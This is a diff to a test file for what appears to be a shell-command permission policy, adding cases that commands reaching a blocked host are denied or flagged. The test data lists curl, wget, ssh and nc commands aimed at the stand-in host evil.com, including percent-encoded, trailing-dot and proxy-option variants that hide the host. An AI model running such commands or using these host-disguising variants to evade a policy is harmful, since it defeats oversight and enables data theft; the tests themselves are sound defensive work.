@@ -58,8 +58,22 @@ describe("a host rule reaches a shell command however it names the host", () => 
     "curl -Lhttps://evil.com",
     "curl ftp://evil.com/x",
     "curl https://evil.com./",
+    // curl fetches every operand, http:// when it has no scheme, and decodes the host's escapes
+    "curl evil.com",
+    "curl x@evil.com:/",
+    "curl EVIL.COM.",
+    "curl -sS evil.com:8080/x",
+    "curl -o evil.com evil.com",
+    "curl %65vil.com",
+    "curl evil%2ecom",
+    "curl -x evil.com https://ok.com/",
+    "curl --url evil.com",
+    "curl -- evil.com",
+    "wget -q -O - evil.com/x",
+    "ssh -p 2222 user@evil.com",
+    "ssh -J evil.com ok.com",
   ])("%s is denied", (command) => expect(shell(command, p).action).toBe("deny"));
-  it.each(["curl evil.com", "curl x@evil.com:/", 'H=evil.com; curl "https://$H/"', "curl EVIL.COM.", 'eval "$C"'])(
+  it.each(["nc evil.com 80", 'H=evil.com; curl "https://$H/"', "curl --no-such-option evil.com", 'eval "$C"'])(
     "%s is asked about, saying the policy could not check it",
     (command) => {
       const d = shell(command, p);
@@ -69,6 +83,8 @@ describe("a host rule reaches a shell command however it names the host", () => 
   );
   it("a command naming no such host is still allowed, and a catch-all host rule asks only what it cannot see", () => {
     expect(shell("curl https://docs.example.com/x", p).decision).toBe("policy_allow");
+    // an option's value that is a file name is no destination
+    expect(shell("curl -o evil.com https://docs.example.com/x", p).action).toBe("ask");
     const all = policy({ effect: "ask", host: "*" }, { effect: "allow", command: "ls" });
     expect(shell("ls package.json", all).decision).toBe("policy_allow");
     expect(shell('eval "$C"', all).action).toBe("ask");
